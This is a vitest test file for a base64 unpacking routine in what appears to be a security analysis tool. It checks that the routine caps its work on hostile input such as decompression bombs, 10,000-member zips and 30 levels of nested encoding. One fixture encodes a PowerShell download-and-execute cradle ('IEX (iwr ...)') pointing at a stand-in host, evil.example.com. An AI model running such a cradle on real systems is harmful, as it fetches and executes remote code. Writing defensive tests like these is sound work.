/**
 * Hostile input for `unpackBase64`: every case must finish (well under a second; no timing asserts, the test
 * timeout is the guard) and say when a limit cut the work short.
 */
import { gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { unpackBase64 } from '../../../src/analysis/base64/unpack.js';

const b64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64');
const GUARD = { timeout: 5000 };

describe('unpackBase64 on hostile input', () => {
  it('empty input', () => {
    expect(unpackBase64('')).toEqual({ decodedText: '', records: [], truncated: false, warnings: [] });
  });

  it('a 10 MB command line is scanned up to the cap, passed through and marked truncated', GUARD, () => {
    const encoded = b64(Buffer.from('IEX (iwr http://evil.example.com/p.ps1)', 'utf16le'));
    const line = `powershell.exe -enc ${encoded} `.repeat(Math.ceil(10_000_000 / 80));
    const result = unpackBase64(line);
    expect(result.truncated).toBe(true);
    expect(result.warnings[0]).toMatch(/only the start was scanned/);
    // The repeated payload decodes once; a copy cut in half at the cap may decode to a second record.
    expect(result.records.length).toBeLessThanOrEqual(2);
    expect(result.records[0]?.encodingType).toBe('utf-16');
    expect(result.decodedText).toContain('http://evil.example.com/p.ps1');
    expect(result.decodedText.endsWith(line.slice(-1000))).toBe(true);
  });

  it('a 10 MB single base64 run', GUARD, () => {
    const result = unpackBase64('A'.repeat(10_000_000));
    expect(result.truncated).toBe(true);
    expect(result.records).toHaveLength(1);
  });

  it('binary text with NULs, lone surrogates and invalid UTF-8 bytes', () => {
    const junk = `\u0000\uD800${Buffer.from([0xff, 0xfe, 0x80, 0xc3]).toString('latin1')}${'\u0000'.repeat(50)}`;
    const text = `${junk} ${b64(Uint8Array.from({ length: 64 }, (_, i) => (i * 37) & 0xff))} ${junk}`;
    const result = unpackBase64(text);
    expect(result.records).toHaveLength(1);
    expect(result.records[0]?.encodingType).toBe('binary');
    expect(result.decodedText.startsWith(junk)).toBe(true);
  });

  it('a gzip bomb (50 MB of zeros) is inflated only up to the member cap', GUARD, () => {
    const bomb = b64(gzipSync(Buffer.alloc(50 * 1024 * 1024), { level: 9 }));
    const result = unpackBase64(`data ${bomb}`);
    expect(result.records).toHaveLength(1);
    expect(result.records[0]?.inputBytes.length).toBe(2 * 1024 * 1024);
    expect(result.records[0]?.warnings[0]).toMatch(/cut at 2097152 bytes/);
    expect(result.truncated).toBe(true);
  });

  it('a zip with 10 000 members yields the first 64 and a warning', GUARD, () => {
    const files: Record<string, Uint8Array> = {};
    for (let i = 0; i < 10_000; i++) files[`f${i}`] = Uint8Array.of(65 + (i % 26));
    const result = unpackBase64(`x ${b64(zipSync(files))}`, { limits: { maxInputChars: 2_000_000 } });
    expect(result.records).toHaveLength(64);
    expect(result.records[63]?.fileName).toBe('f63');
    expect(result.truncated).toBe(true);
    expect(result.warnings.join('\n')).toMatch(/10000 members; read the first 64/);
  });

  it('30 levels of nested base64 stop at the depth cap', GUARD, () => {
    let nested = 'echo pwned http://evil.example.com/x';
    for (let level = 0; level < 30; level++) nested = b64(nested);
    const result = unpackBase64(`run ${nested}`);
    expect(result.records).toHaveLength(8);
    expect(Math.max(...result.records.map((record) => record.depth))).toBe(8);
    expect(result.truncated).toBe(true);
    expect(result.warnings).toContain('stopped at nesting depth 8');
  });

  it('stops a level after 50 candidates, like msticpy', () => {
    const text = Array.from({ length: 80 }, (_, i) => b64(`payload number ${i} with padding`)).join(' ');
    const result = unpackBase64(text, { limits: { maxDepth: 1 } });
    expect(result.records).toHaveLength(50);
    expect(result.truncated).toBe(true);
    expect(result.warnings).toContain('depth 1: stopped after 50 base64 candidates');
  });

  it('stops decoding when the total decoded bytes limit is reached', () => {
    const text = Array.from({ length: 10 }, (_, i) => b64(`${i}`.repeat(300))).join(' ');
    const result = unpackBase64(text, { limits: { maxTotalDecodedBytes: 1000 } });
    expect(result.records.length).toBeLessThan(10);
    expect(result.truncated).toBe(true);
    expect(result.warnings.join('\n')).toMatch(/total decoded bytes limit/);
  });
});
